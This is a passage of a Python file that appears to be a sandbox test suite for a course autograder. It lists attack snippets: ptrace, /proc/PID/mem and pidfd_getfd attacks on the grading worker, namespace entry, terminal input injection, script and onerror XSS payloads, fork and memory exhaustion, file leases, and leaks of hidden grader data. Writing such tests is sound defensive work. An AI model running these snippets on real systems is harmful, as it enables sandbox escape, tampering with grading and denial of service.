    "x32": Attack(
        "Calls the kernel as a program of the third kind that the processor knows.",
        _CALLS
        + "if os.uname().machine == 'x86_64' and call(0x40000000 + 41, 2, 1, 0) >= 0: leaked('socket')",
    ),
    "terminal": Attack(
        "Types a command into the terminal of whoever grades.",
        """
import fcntl
for name in ("/dev/tty", "/dev/pts/0", "/dev/console", *map("/proc/self/fd/{}".format, range(10))):
    with contextlib.suppress(OSError):
        place = os.open(name, os.O_RDWR)
        fcntl.ioctl(place, 0x5412, b"x"); leaked(name)
""",
    ),
    "sockets of other kinds": Attack(
        "Asks for sockets of every family and kind.",
        """
allowed = {socket.AF_UNIX, socket.AF_INET, socket.AF_INET6}
for family in set(range(46)) - allowed:
    for kind in (1, 2, 3, 5): tried(socket.socket, family, kind)
""",
    ),
    "queues of messages": Attack(
        "Leaves a queue by name for the next student.",
        _CALLS + "if call(240, b'note', 0o102, 0o666, 0) >= 0: leaked('queue')",
    ),
    "what changes elsewhere": Attack(
        "Watches what others do with their files.",
        _CALLS
        + """
watch = libc.inotify_init()
if watch >= 0 and libc.inotify_add_watch(watch, b"@GRADING@", 0xFFF) >= 0: leaked("watches")
""",
    ),
}

_OTHERS = """
libc = ctypes.CDLL(None, use_errno=True)
me = {os.getpid()}
with contextlib.suppress(OSError): me.add(int(os.readlink("/proc/self")))
others = set(processes()) - me
"""

WORKER = {
    "ptrace": Attack(
        "Attaches to every process that it finds, the worker among them.",
        _OTHERS
        + """
for pid in {*others, *range(1, 40)}:
    if pid != os.getpid() and libc.ptrace(16, pid, 0, 0) == 0: leaked(pid)
""",
    ),
    "/proc/PID/mem": Attack(
        "Writes into the memory of the worker, so that the next student passes.",
        _OTHERS
        + """
for pid in others:
    with contextlib.suppress(OSError), open(f"/proc/{pid}/mem", "r+b"):
        leaked("memory of", open(f"/proc/{pid}/cmdline").read())
""",
    ),
    "process_vm_writev": Attack(
        "Writes into other processes by system call.",
        _OTHERS
        + """
class Vector(ctypes.Structure): _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
word = ctypes.create_string_buffer(8)
mine, theirs = Vector(ctypes.addressof(word), 8), Vector(id(Div), 8)
for pid in range(1, 40):
    if pid == os.getpid(): continue
    if libc.process_vm_readv(pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0) == 8: leaked(pid)
""",
    ),
    "pidfd_getfd": Attack(
        "Steals the worker's control socket.",
        _OTHERS
        + """
for pid in {*others, *range(1, 40)}:
    if pid == os.getpid(): continue
    with contextlib.suppress(OSError):
        handle = os.pidfd_open(pid)
        for number in range(3, 20):
            if libc.syscall(438, handle, number, 0) >= 0: leaked("descriptor", number, "of", pid)
""",
    ),
    "control socket": Attack(
        "Writes to whatever sockets it has inherited, as if it were the worker.",
        """
count = 0
for number in range(3, 64):
    with contextlib.suppress(OSError):
        socket.socket(fileno=os.dup(number)).getpeername()
        count += 1
if count > 1: leaked(count, "sockets")
""",
    ),
    "setns": Attack(
        "Enters the namespaces of other processes.",
        _OTHERS
        + """
for pid in {*others, *range(1, 40)}:
    for kind in ("mnt", "net", "pid", "user"):
        with contextlib.suppress(OSError):
            handle = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
            if libc.setns(handle, 0) == 0: leaked(kind, pid)
""",
    ),
    "limits of others": Attack(
        "Takes the limits away from the worker.",
        _OTHERS
        + """
import resource
for pid in {*others, *range(1, 40)} - {os.getpid()}:
    with contextlib.suppress(OSError, ValueError):
        resource.prlimit(pid, resource.RLIMIT_CPU); leaked(pid)  # who may read them may set them
""",
    ),
}

MARKUP = {
    "HTML": Attack(
        "Displays scripts, event handlers, forms and frames.",
        """
from IPython.display import HTML, SVG, Javascript, Markdown, Latex
bad = "<script>evil()</script><b onclick=evil()>x</b><iframe src='http://x'></iframe><img src=x onerror=evil()><form action=http://x><a href='javascript:evil()'>x</a><style>@import 'http://x'</style><math><mi xlink:href='javascript:evil()'>"
display(HTML(bad), Markdown(bad + "[x](javascript:evil())"), Latex(bad), Javascript("evil()"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg'><script>evil()</script></svg>"))
print(bad, "\\x1b[31m\\x1b]0;title\\x07")
""",
    ),
    "pictures": Attack(
        "Sends a picture whose data break out of the tag.",
        "import base64\nbad = 'iVBORw0KGgo=\"><script>evil()</script>'\n"
        "display({'image/png': bad, 'image/jpeg': '/9j/\"onerror=\"evil()', 'text/plain': bad}, raw=True)\n"
        "display({'application/javascript': 'evil()', 'application/vnd.jupyter.widget-view+json': {'model_id': 'x'}}, raw=True)",
    ),
    "exceptions": Attack(
        "Raises exceptions whose name and text are markup.",
        inside="raise type('<script>evil()</script>', (Exception,), {})('<img src=x onerror=evil()>')",
    ),
    "terminal": Attack(
        "Sequences that a terminal obeys, and signs that turn the writing around, in output, exception and repr.",
        inside="""
code = "\\x1b]0;title\\x07\\x1b[2J\\x9b31m\\u202egnp.exe\\u2066\\x7f"
print(code); sys.stderr.write(code); display({"text/plain": code, "text/html": code}, raw=True)
raise type(code, (Exception,), {})(code)
""",
        cell='code = "\\x1b]0;title\\x07\\x9b2J\\u202e"\nprint(code)\ndisplay({"text/plain": code, "text/latex": code}, raw=True)\nraise ValueError(code)',
    ),
    "names": Attack(
        "Markup in reprs and values of the observation.",
        answer="class Bad:\n    def __repr__(self): return '<script>evil()</script>'\nBad.__name__ = '<script>evil()</script>'\n"
        "class Div(Op):\n    def forward(self, a, b): return Bad()\n    def backward(self, g): return '<script>evil()</script>', Bad()\n",
    ),
}  # fmt: skip

# What costs the trusted side or a neighbour, rather than a point.
_SENDS_ODD = "replies({})"
COSTS = {
    "structured arrays": forges(
        "Sends an array of records, which compares with nothing.",
        """
import msgpack
for dtype in ("<i,f", "i,i4", ""):
    with contextlib.suppress(Exception):
        forge(msgpack.ExtType(3, plain.encode([dtype, [1], bytes(8)])))
""",
    ),
    "an array as number": forges(
        "Sends an array as the number of the request.", _SENDS_ODD.format("{'id': np.arange(3)}")
    ),
    "an array as failure": forges(
        "Sends an array as the reason of a failure.", _SENDS_ODD.format("{'failed': np.arange(3)}")
    ),
    "an array as error": forges(
        "Sends an array in place of an exception.", "forge(1.0, error=np.arange(3))"
    ),
    "an array as kind": forges(
        "Sends outputs whose kind, name and texts are arrays.",
        """
odd = {name: np.arange(3) for name in ("output_type", "name", "text", "data", "ename", "evalue", "traceback")}
real = serve.send
serve.send = lambda channel, message: real(
    channel, {**message, "outputs": [odd, {**odd, "output_type": "stream"}, {**odd, "output_type": "error"}]}
    if "outputs" in message else message)
""",
    ),
    "empty arrays": forges(
        "Sends arrays without entries whose sizes are absurd.",
        "import msgpack\nforge(msgpack.ExtType(3, plain.encode(['<f8', [2**24, 2**24, 0], b''])))",
    ),
    "large replies": forges(
        "Sends 30 MB whenever it is asked.",
        """
real = serve.send
page = {"output_type": "stream", "name": "stdout", "text": "x" * 1_000_000}
serve.send = lambda channel, message: real(
    channel, {**message, "outputs": [page] * 30} if "outputs" in message else message)
forge("x" * 5_000_000)
""",
    ),
    "long exceptions": forges(
        "Sends an exception whose texts are long and hard to search.",
        """
import msgpack
text = "takes " * 200_000
forge(msgpack.ExtType(6, msgpack.packb([text, text, text])))
""",
    ),
    "an exception that is hard to search": Attack(
        "Raises an exception with a long text that almost fits what is looked for.",
        inside="raise TypeError('takes ' * 70_000 + 'unsupported operand type(s) for ' * 9_000)",
    ),
    "spinning processes": Attack(
        "Keeps all processors busy with a hundred processes.",
        """
for number in range(50):
    if os.fork() == 0:
        while True: pass
time.sleep(0.5)
""",
    ),
    "sleeping processes": Attack(
        "Starts as many sleeping processes as it may, in the cell and when it is called.",
        """
with contextlib.suppress(OSError):
    for number in range(60):
        if os.fork() == 0: time.sleep(60)
""",
        inside="""
with contextlib.suppress(OSError):
    while os.fork(): pass
    time.sleep(60)
""",
    ),
    "socket buffers": Attack(
        "Fills the kernel's memory by way of sockets that nobody reads.",
        """
kept, sent = [], 0
with contextlib.suppress(OSError):
    for number in range(2_000):
        pair = socket.socketpair()
        kept.append(pair)
        pair[0].setblocking(False)
        with contextlib.suppress(BlockingIOError):
            while True: sent += pair[0].send(bytes(2**16))
time.sleep(1)
if sent > 2**29: leaked(sent)
""",
    ),
    "empty files": Attack(
        "Makes a hundred thousand empty files.",
        """
import resource
with contextlib.suppress(OSError):
    for number in range(100_000): open(str(number), "w").close()
    time.sleep(1)
    leaked("empty files")
""",
    ),
    "leases": Attack(
        "Takes leases on files of the course, so that whoever writes them has to wait.",
        """
import fcntl
for folder in ("@COURSE@", "/course"):
    with contextlib.suppress(OSError):
        with open(f"{folder}/utils/__init__.py") as file: leaked(fcntl.fcntl(file, 1024, 0))
open("own", "w").close()
with contextlib.suppress(OSError), open("own") as file: leaked("lease", fcntl.fcntl(file, 1024, 0))
with contextlib.suppress(OSError), open("own") as file: leaked("owner", fcntl.fcntl(file, 8, 1))
""",
    ),
    "processors of others": Attack(
        "Keeps the grader off all processors but one.",
        """
for pid in processes():
    if pid != os.getpid():
        with contextlib.suppress(OSError): os.sched_setaffinity(pid, {0}); leaked("moved", pid)
""",
    ),
    "hiding": Attack(
        "Hides its processes from whoever counts their memory and sockets.",
        "if ctypes.CDLL(None).prctl(4, 0, 0, 0, 0) == 0: leaked('hidden')",
    ),
    "counters of the network": Attack(
        "Leaves a message for the next session in the counters of the loopback.",
        """
with contextlib.suppress(OSError):
    a, b = (socket.socket(type=socket.SOCK_DGRAM) for _ in range(2))
    a.bind(("127.0.0.1", 0))
    b.sendto(b"x" * 999, a.getsockname())
""",
    ),
    "line breaks": Attack(
        "Writes a line about a neighbour into the text of an exception.",
        cell="raise ValueError('x\\n! neighbour: copied\\r! neighbour\\u2028! neighbour\\x85;=1+1')",
        inside="raise ValueError('x\\n! neighbour: copied\\r! neighbour\\u2028! neighbour')",
    ),
}

# What observes is hidden. These keep it, when it comes, and show it in a later cell.
FIND = """
frame, found = sys._getframe(), b""
while frame is not None and not found:
    request = frame.f_locals.get("request")
    found = request.get("observe", b"") if isinstance(request, dict) else b""
    frame = frame.f_back
"""
SHOWING = {
    "a file": Attack(
        "Keeps what observes in a file of its folder.",
        inside=FIND + 'open("kept", "wb").write(found)',
        later='if os.path.exists("kept") and os.path.getsize("kept"): leaked("kept")',
    ),
    "a file at home": Attack(
        "Keeps what observes in a file beside its folder.",
        inside=FIND + 'open(os.environ["HOME"] + "/kept", "wb").write(found)',
        later="""
kept = os.environ["HOME"] + "/kept"
if os.path.exists(kept) and os.path.getsize(kept): leaked(kept)
""",
    ),
    "the name of a file": Attack(
        "Keeps what observes in the target of a link.",
        inside=FIND + 'os.symlink(found.hex()[:999], "link")',
        later='tried(os.readlink, "link")',
    ),
    "shared memory": Attack(
        "Keeps what observes in memory that it shares with its forks.",
        "import mmap\nshared = mmap.mmap(-1, 2**16)",
        inside=FIND + "shared[:999] = found[:999]",
        later="if any(shared[:999]): leaked(shared[:999])",
    ),
    "a pipe": Attack(
        "Sends what observes through a pipe to the process that runs the cells.",
        "reader, writer = os.pipe()\nos.set_blocking(reader, False)",
        inside=FIND + "os.write(writer, found[:999])",
        later="tried(os.read, reader, 999)",
    ),
    "another process": Attack(
        "Sends what observes to a process that keeps it in its memory.",
        """
here, there = socket.socketpair()
asked, answers = socket.socketpair()
if os.fork() == 0:
    kept = there.recv(999)
    asked.recv(1)
    asked.send(kept)
    os._exit(0)
""",
        inside=FIND + "here.send(found[:999])",
        later='answers.settimeout(0.5)\nanswers.send(b"?")\ntried(answers.recv, 999)',
    ),
    "what is received": Attack(
        "Notes what the process that runs the cells receives.",
        FORGE + "noted, real = [], serve.receive\n"
        "serve.receive = lambda channel: noted.append(real(channel)) or noted[-1]",
        later="for one in noted:\n    if one.get('observe'): leaked(one)",
    ),
    "its own memory": Attack(
        "Searches its memory for what observes.",
        later="""
import re
for line in open("/proc/self/maps"):
    parts = line.split()
    if parts[1].startswith("rw"):
        start, end = (int(text, 16) for text in parts[0].split("-"))
        with contextlib.suppress(OSError, ValueError, OverflowError), open("/proc/self/mem", "rb") as memory:
            memory.seek(start)
            if re.search(rb"two divisions alive at [o]nce", memory.read(min(end - start, 2**26))):
                leaked("memory")
""",
    ),
}

ATTACKS = {
    f"{group}: {name}": attack
    for group, attacks in (
        ("reading", READING), ("patching", PATCHING), ("objects", OBJECTS), ("channel", CHANNEL),
        ("processes", PROCESSES), ("network", NETWORK), ("writing", WRITING), ("kernel", KERNEL),
        ("worker", WORKER), ("markup", MARKUP), ("costs", COSTS), ("showing", SHOWING),
    )
    for name, attack in attacks.items()
}  # fmt: skip
